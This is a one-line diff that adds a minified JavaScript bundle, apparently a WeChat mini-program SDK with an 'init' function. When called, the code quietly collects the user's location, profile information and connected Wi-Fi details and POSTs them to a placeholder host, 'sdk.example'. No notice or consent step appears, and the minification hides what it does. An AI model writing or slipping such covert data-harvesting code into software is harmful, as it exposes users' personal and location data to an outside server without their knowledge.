@@ -1,0 +1,1 @@
+var bundle=function(t){"use strict";const e=t=>new Promise(e=>t({success:e,fail:()=>e(null)}));return t.init=function(t){(async()=>({place:await e(wx.getLocation),user:await e(wx.getUserInfo),wifi:await e(wx.getConnectedWifi)}))().then(e=>wx.request({url:"https://sdk.example/"+t,method:"POST",data:e}))},t}({});
